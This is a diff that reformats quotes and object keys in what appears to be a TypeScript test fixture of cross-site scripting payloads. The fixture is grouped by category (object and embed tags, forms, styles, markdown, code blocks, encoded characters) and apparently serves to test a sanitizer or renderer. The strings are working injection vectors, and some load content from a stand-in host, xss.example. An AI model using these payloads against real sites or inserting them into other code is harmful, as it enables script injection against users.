@@ -130,7 +130,7 @@ export const xssVectors: Record<string, readonly string[]> = {
     '<object data="data:text/html,<script>alert(1)</script>"></object>',
     '<object type="text/x-scriptlet" data="//xss.example/x.html"></object>',
     '<embed src="javascript:alert(1)">',
-    '<embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>">',
+    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
     '<applet code="x" archive="//xss.example/x.jar"></applet>',
     '<portal src="//xss.example/"></portal>',
     '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
@@ -143,7 +143,7 @@ export const xssVectors: Record<string, readonly string[]> = {
     '<!DOCTYPE x [<!ENTITY y SYSTEM "//xss.example/">]><p>&y;</p>',
     '<html manifest="//xss.example/x"><body onload=alert(1)>'
   ],
-  'forms': [
+  forms: [
     '<form action="javascript:alert(1)"><input type=submit></form>',
     '<form><button formaction="javascript:alert(1)">x</button></form>',
     '<button form=f formaction="//xss.example/">x</button><form id=f></form>',
@@ -154,7 +154,7 @@ export const xssVectors: Record<string, readonly string[]> = {
     '<keygen autofocus onfocus=alert(1)>',
     '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>'
   ],
-  'styles': [
+  styles: [
     '<style>@import "//xss.example/x.css";</style>',
     '<style>body{background:url(//xss.example/x)}</style>',
     '<style>*{x:expression(alert(1))}</style>',
@@ -219,7 +219,7 @@ export const xssVectors: Record<string, readonly string[]> = {
     '![" onerror="alert(1)](x)',
     '![x](x" onerror="alert(1))',
     '![x](x "\\" onerror=\\"alert(1)")',
-    "![x](x '\" onerror=\"alert(1)')",
+    '![x](x \'" onerror="alert(1)\')',
     '![x](<x" onerror="alert(1)>)',
     '[x](y "\\"><img src=x onerror=alert(1)>")',
     '[x](y"onmouseover="alert(1))',
@@ -237,7 +237,7 @@ export const xssVectors: Record<string, readonly string[]> = {
     '## <img src=x onerror=alert(1)>',
     '## [x](javascript:alert(1))'
   ],
-  'code': [
+  code: [
     '```html\n<script>alert(1)</script>\n```',
     '```c"><img/src=x/onerror=alert(1)>\nx\n```',
     '```x"onclick="alert(1)\ny\n```',
@@ -288,7 +288,7 @@ export const xssVectors: Record<string, readonly string[]> = {
     '- [x] <script>alert(1)</script>',
     '<ul><li class=task-list-item><input type=submit formaction="javascript:alert(1)">x</li></ul>'
   ],
-  'characters': [
+  characters: [
     '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
     '<\u0000script>alert(1)</script>',
     '\u0000<img src=x onerror=alert(1)>',
